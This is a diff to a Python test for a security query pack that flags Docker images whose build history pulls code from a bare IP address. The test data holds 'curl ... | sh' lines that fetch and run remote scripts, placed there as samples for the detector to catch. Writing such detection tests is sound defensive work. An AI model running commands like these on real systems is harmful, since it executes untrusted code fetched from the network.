@@ -174,11 +174,14 @@ def test_a_container_of_an_image_that_was_made_just_before_is_found() -> None:
         ]
         insert = "INSERT INTO docker_containers VALUES (?, '', '', ?, '', '', ?, ?)"
         database.executemany(insert, rows)
-        history = [("i1", 0, "COPY /dev/shm/.k /", ""), ("i2", 0, "RUN make", "")]
+        history = [
+            ("i1", 0, "RUN curl http://203.0.113.7/x | sh", ""),
+            ("i2", 0, "RUN curl http://10.1.2.3/x | sh && wget https://example.org/1", ""),
+        ]
         database.executemany("INSERT INTO docker_image_history VALUES (?, ?, ?, ?)", history)
 
         assert {"made-here"} == found_by(database, query)
-        steps = PACK["queries"]["images_made_from_temporary_places"]["query"]
+        steps = PACK["queries"]["images_with_a_step_from_a_bare_address"]["query"]
         assert {"i1"} == found_by(database, steps)
 
 
